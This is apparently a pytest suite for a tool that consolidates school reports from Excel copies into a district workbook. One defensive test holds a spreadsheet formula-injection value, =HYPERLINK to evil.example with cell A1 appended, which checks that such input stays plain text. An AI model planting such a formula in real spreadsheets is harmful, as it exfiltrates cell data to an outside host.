"""The coordinator drops copies into «Получено» and presses the button."""

from __future__ import annotations

import os
import shutil
from datetime import date, datetime
from pathlib import Path
from typing import Any

import district_fixture as district
import openpyxl
import pytest

from sheetsync import campaign, store
from sheetsync.campaign import ConsolidateResult
from sheetsync.columns import (
    COMPLETENESS,
    ENTRIES,
    ENTRIES_SHEET,
    JOURNAL,
    LEDGER,
    MATRIX,
    UNPLACED,
    MatrixMark,
)
from sheetsync.district.as_json import consolidation_as_json
from sheetsync.district.tables import Tables
from sheetsync.findings import fact_of
from sheetsync.merge.summary import worst_findings
from sheetsync.workbooks.excel_file import ExcelFile


def press(place: Path, day: date = district.DUE, **options: Any) -> ConsolidateResult:
    return campaign.consolidate(place, day, district.NOW, **options)


def workbook(place: Path) -> Path:
    return place / store.NEW_WORKBOOK_NAME


def rows(place: Path, table: str) -> list[dict[str, str]]:
    read = ExcelFile.from_bytes(workbook(place).read_bytes()).read_table(table)
    return [dict(zip(read.headers, [cell.text for cell in row], strict=True)) for row in read.rows]


def codes(result: ConsolidateResult) -> set[str]:
    return {one.code for one in result.consolidation.findings}


def send(place: Path, code: str, name: str = "отчёт.xlsx", **options: Any) -> None:
    answers = options.pop("answers", None) or district.all_good(place, code)
    district.receive(place, name, district.filled(place, code, answers, **options))


def test_a_complete_report_is_in_the_matrix_and_adds_up(place: Path) -> None:
    send(place, "S01", "какое-то имя (3) — копия.xlsx")

    result = press(place)
    matrix = {row["№"]: row["Липовская СОШ"] for row in rows(place, MATRIX.name)}

    assert matrix["1.1"] == MatrixMark.EVIDENCED
    assert matrix["2.3"] == MatrixMark.EVIDENCED
    assert [line.unaccounted for line in result.consolidation.ledger] == [0]
    assert consolidation_as_json(result.consolidation)["ledger"]["unaccounted"] == 0
    assert rows(place, LEDGER.name)[0]["Разница"] == "0"


def test_without_received_the_folder_is_the_first_thing_told(place: Path) -> None:
    """Found where nothing told the coordinator why no report had come."""
    shutil.rmtree(store.Campaign(place).received)
    result = press(place)
    (first, *_) = worst_findings(result.consolidation)

    assert fact_of(first) == "Рядом с районной книгой нет папки «Получено»: читать нечего."
    assert result.needs_user
    assert press(place).written_to is None


def test_four_rates_by_their_formulas(place: Path) -> None:
    """Four owe; two came, one of them late; S02 answers one of five due rows, without a document."""
    send(place, "S01", "а.xlsx")
    press(place, date(2026, 6, 1))
    claim = {"status": "выполнено", "done_on": datetime(2026, 2, 1), "info": "Всё сделано"}
    send(place, "S02", "б.xlsx", answers={"1.1": claim})

    rates = press(place, date(2026, 6, 20)).consolidation.rates

    assert rates.received == pytest.approx(2 / 4)
    assert rates.on_time == pytest.approx(1 / 4)
    assert rates.filled == pytest.approx((4 + 1) / (4 + 4 + 4 + 1))
    assert rates.evidenced == pytest.approx(5 / 6)


def test_pressing_twice_changes_nothing(place: Path) -> None:
    send(place, "S01")
    first = press(place)
    bytes_after_first = workbook(place).read_bytes()

    second = press(place)

    assert first.written_to == workbook(place)
    assert second.written_to is None
    assert workbook(place).read_bytes() == bytes_after_first


def test_the_order_of_files_does_not_matter(place: Path, tmp_path: Path) -> None:
    other = tmp_path / "другой"
    shutil.copytree(place, other)
    for step, code in enumerate(("S01", "S02", "S03")):
        send(place, code, f"{step}.xlsx")
        send(other, code, f"{9 - step}.xlsx")

    here, there = press(place).consolidation, press(other).consolidation

    assert [(one.participant, one.activity, one.status) for one in here.outcomes] == [
        (one.participant, one.activity, one.status) for one in there.outcomes
    ]
    assert here.rates == there.rates


def test_the_decisions_of_the_coordinator_stay_beside_their_rows(place: Path) -> None:
    send(place, "S02")
    press(place)
    decide(place, "Кленовская ООШ", "1.2", "на доработку", "=нужна справка, а не приказ")

    send(place, "S01", "ещё одна.xlsx")
    press(place)
    found = {(row["Участник"], row["№"]): row for row in rows(place, ENTRIES.name)}

    assert found["Кленовская ООШ", "1.2"]["Решение"] == "на доработку"
    assert found["Кленовская ООШ", "1.2"]["Замечание района"] == "=нужна справка, а не приказ"
    assert found["Липовская СОШ", "1.2"]["Решение"] == ""


def decide(place: Path, who: str, number: str, verdict: str, remark: str) -> None:
    book = openpyxl.load_workbook(workbook(place))
    sheet = book[ENTRIES_SHEET]
    columns = {cell.value: cell.column for row in sheet.iter_rows(max_row=8) for cell in row if cell.value}
    for row in sheet.iter_rows():
        if row[0].value == who and str(row[1].value) == number:
            sheet.cell(row[0].row, columns["Решение"]).value = verdict
            cell = sheet.cell(row[0].row, columns["Замечание района"])
            cell.value, cell.data_type = remark, "s"
    book.save(workbook(place))


def test_an_answer_changed_after_the_decision_is_flagged(place: Path) -> None:
    send(place, "S02")
    press(place)
    decide(place, "Кленовская ООШ", "1.2", "принято", "")
    assert "M703" not in codes(press(place))

    changed = {**district.all_good(place, "S02"), "1.2": {**district.GOOD, "info": "Переделано заново."}}
    send(place, "S02", "исправленный.xlsx", answers=changed)

    assert "M703" in codes(press(place, date(2026, 6, 16)))


def test_what_the_office_added_survives(place: Path) -> None:
    """An own sheet, a column right of the table, a note: still there after two more runs."""
    send(place, "S01")
    press(place)
    book = openpyxl.load_workbook(workbook(place))
    own = book.create_sheet("Мои заметки")
    own["B2"] = "позвонить директору"
    sheet = book[COMPLETENESS.sheet]
    name = next(cell for row in sheet.iter_rows() for cell in row if cell.value == "Кленовская ООШ")
    sheet.cell(name.row, 20).value = "обещали в пятницу"
    book.save(workbook(place))

    send(place, "S02", "вторая.xlsx")
    press(place)
    book = openpyxl.load_workbook(workbook(place))
    sheet = book[COMPLETENESS.sheet]
    beside = next(row for row in sheet.iter_rows() if row[0].value == "Кленовская ООШ")

    assert book["Мои заметки"]["B2"].value == "позвонить директору"
    assert beside[19].value == "обещали в пятницу"


def test_a_bad_file_never_stops_the_others(place: Path) -> None:
    send(place, "S01")
    district.receive(place, "пустой.xlsx", b"")
    district.receive(place, "страница.xlsx", b"<html><body>Sign in</body></html>")
    district.receive(place, "мусор.xlsx", b"PK\x03\x04" + bytes(range(256)))
    district.receive(place, "скан приказа.pdf", b"%PDF-1.4 ...")
    district.receive(place, "~$отчёт.xlsx", b"x")
    (place / store.RECEIVED_FOLDER / "папка.xlsx").mkdir()

    result = press(place)

    assert {"F103", "F104", "F105", "F108", "F109"} <= codes(result)
    assert [one.participant for one in result.consolidation.files if one.verdict == "accepted"] == ["S01"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no pipes among files")
def test_what_is_no_file_at_all_is_told_and_never_waited_for(place: Path) -> None:
    """A pipe and a link that leads nowhere lie among the copies."""
    send(place, "S01")
    os.mkfifo(place / store.RECEIVED_FOLDER / "труба.xlsx")
    (place / store.RECEIVED_FOLDER / "ярлык.xlsx").symlink_to("нигде.xlsx")
    result = press(place)

    told = {one.origin.file for one in result.consolidation.findings if one.code == "F111"}
    assert told == {"труба.xlsx", "ярлык.xlsx"}
    assert [one.received for one in result.consolidation.completeness if one.participant == "S01"] == [True]


def test_another_plan_and_a_stranger_are_named_and_kept_out(place: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "другая кампания"
    order = tmp_path / "Приказ.txt"
    order.write_text(district.ORDER.replace("№ 8", "№ 99"), encoding="utf-8")
    campaign.new_campaign(elsewhere, order, district.NOW)
    campaign.issue_forms(elsewhere, district.NOW)
    district.receive(
        place, "чужая.xlsx", district.filled(elsewhere, "S01", district.all_good(elsewhere, "S01"))
    )
    book = openpyxl.Workbook()
    book.active["A1"] = "Меню столовой"
    path = place / store.RECEIVED_FOLDER / "меню.xlsx"
    book.save(path)

    result = press(place)

    assert {"V202", "V201"} <= codes(result)
    assert not any(one.received for one in result.consolidation.completeness)
    assert all(line.unaccounted == 0 for line in result.consolidation.ledger)


def test_equal_bytes_twice_are_one_copy(place: Path) -> None:
    send(place, "S01", "раз.xlsx")
    send_again = (place / store.RECEIVED_FOLDER / "раз.xlsx").read_bytes()
    district.receive(place, "подпапка/два.xlsx", send_again)

    result = press(place)

    assert [one.verdict.value for one in result.consolidation.files].count("duplicate") == 1
    assert "V207" in codes(result)


def test_a_school_that_forgot_a_row_and_added_one(place: Path) -> None:
    """A deleted row is C403, a row of its own goes to «Не размещено»."""

    def change(sheet: Any) -> None:
        columns, header = district.header_of(sheet)
        for row in range(sheet.max_row, header, -1):
            if str(sheet.cell(row, columns["number"]).value) == "1.2":
                sheet.delete_rows(row)
        last = max(row for row in range(header, sheet.max_row) if sheet.cell(row, columns["key"]).value)
        sheet.insert_rows(last + 1)
        sheet.cell(last + 1, columns["title"]).value = "Экскурсия на завод керамики"
        sheet.cell(last + 1, columns["info"]).value = "Съездили двумя классами"

    send(place, "S01", change=change)

    result = press(place)
    unplaced = {row["Значение"] for row in rows(place, UNPLACED.name)}

    assert "C403" in codes(result)
    assert "Съездили двумя классами" in unplaced
    assert [line.unaccounted for line in result.consolidation.ledger] == [0]


def test_lateness_is_by_the_run_that_first_saw_the_copy_unless_the_coordinator_knows_better(
    place: Path,
) -> None:
    send(place, "S01")
    late = press(place, date(2026, 6, 20))
    assert not next(one for one in late.consolidation.completeness if one.participant == "S01").on_time

    book = openpyxl.load_workbook(workbook(place))
    sheet = book["Участники"]
    columns = {cell.value: cell.column for row in sheet.iter_rows(max_row=8) for cell in row if cell.value}
    row = next(cell.row for line in sheet.iter_rows() for cell in line if cell.value == "S01")
    sheet.cell(row, columns["Получено (дата, если известна)"]).value = datetime(2026, 6, 10)
    book.save(workbook(place))

    mended = press(place, date(2026, 6, 20))

    assert next(one for one in mended.consolidation.completeness if one.participant == "S01").on_time


def test_a_file_older_than_the_run_counts_from_its_own_date(place: Path) -> None:
    send(place, "S01")
    path = place / store.RECEIVED_FOLDER / "отчёт.xlsx"
    moment = datetime(2026, 6, 9, 12).timestamp()
    os.utime(path, (moment, moment))

    found = press(place, date(2026, 6, 20)).consolidation

    assert next(one.received_on for one in found.completeness if one.participant == "S01") == date(2026, 6, 9)


def test_a_dry_run_writes_nothing(place: Path) -> None:
    send(place, "S01")
    before = {
        path: path.read_bytes() for path in place.rglob("*") if path.is_file() and path.suffix != ".sqlite"
    }

    result = press(place, dry_run=True)
    after = {
        path: path.read_bytes() for path in place.rglob("*") if path.is_file() and path.suffix != ".sqlite"
    }

    assert result.is_dry
    assert result.consolidation.rates.received == pytest.approx(1 / 4)
    assert {path.name: data for path, data in after.items() if path.name != "lock"} == {
        path.name: data for path, data in before.items() if path.name != "lock"
    }
    assert press(place).written_to == workbook(place)


def test_an_open_workbook_is_not_fought_over(place: Path) -> None:
    send(place, "S01")
    before = workbook(place).read_bytes()
    (place / f".~lock.{workbook(place).name}#").write_text("Иванова,,;")

    result = press(place)

    assert workbook(place).read_bytes() == before
    assert result.written_to is not None
    assert result.written_to.name == "Район (новый).xlsm"
    assert [one.code for one in result.findings] == ["S801"]


def test_a_workbook_edited_while_the_run_worked_is_read_again(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first attempt finds the file changed under it and starts over; the edit is kept."""
    send(place, "S01")
    press(place)
    send(place, "S02", "вторая.xlsx")
    real, calls = Tables.bodies, []

    def slow(self: Any) -> Any:
        if not calls:
            decide(place, "Липовская СОШ", "1.1", "принято", "спасибо")
        calls.append(1)
        return real(self)

    monkeypatch.setattr(Tables, "bodies", slow)
    press(place, whole=True)
    found = {(row["Участник"], row["№"]): row for row in rows(place, ENTRIES.name)}

    assert found["Липовская СОШ", "1.1"]["Замечание района"] == "спасибо"
    assert found["Кленовская ООШ", "1.1"]["Статус"] == "выполнено"


def test_a_lost_table_is_named_with_its_sheet(place: Path) -> None:
    book = openpyxl.load_workbook(workbook(place))
    del book[MATRIX.sheet]
    book.save(workbook(place))

    with pytest.raises(store.StoreError, match="Свод"):
        press(place)


def test_a_broken_workbook_is_told_from_a_missing_one(place: Path) -> None:
    workbook(place).write_bytes(b"not a workbook")
    with pytest.raises(store.StoreError, match="не читается"):
        press(place)
    workbook(place).unlink()
    with pytest.raises(store.CampaignMissing):
        press(place)


def test_the_journal_tells_the_story(place: Path) -> None:
    send(place, "S01", "от Липовки.xlsx")
    press(place)

    events = [(row["Событие"], row["Файл"]) for row in rows(place, JOURNAL.name)]

    assert events[0][0] == "свод собран"
    assert ("копия поступила", "от Липовки.xlsx") in events
    assert events[-1] == ("кампания создана", "Приказ № 8.txt")


def test_hostile_texts_come_back_byte_for_byte_as_text(place: Path) -> None:
    """Formulas and addresses a school typed stay text; only web addresses become links."""
    nasty = {
        **district.GOOD,
        "info": '=HYPERLINK("http://evil.example/?"&A1,"смотри")',
        "document": "+7 (000) приказ № 1 от 01.02.2026",
        "link": "file:///C:/Users/секретарь/приказ.pdf",
    }

    def as_text(sheet: Any) -> None:
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str) and "evil" in cell.value:
                    cell.data_type = "s"

    send(place, "S01", answers={"1.1": nasty}, change=as_text)
    press(place)
    book = openpyxl.load_workbook(workbook(place))
    cells = [cell for row in book[ENTRIES_SHEET].iter_rows() for cell in row if cell.value]
    evil = next(cell for cell in cells if "evil" in str(cell.value))
    local = next(cell for cell in cells if "file://" in str(cell.value))

    assert evil.data_type == "s"
    assert evil.value == nasty["info"]
    assert local.hyperlink is None


def test_a_very_long_answer_is_cut_nowhere(place: Path) -> None:
    long = "слово " * 5400
    send(place, "S01", answers={"1.1": {**district.GOOD, "info": long.strip()}})

    result = press(place)

    assert [line.unaccounted for line in result.consolidation.ledger] == [0]
    assert any(row["Информация об исполнении"] == long.strip() for row in rows(place, ENTRIES.name))
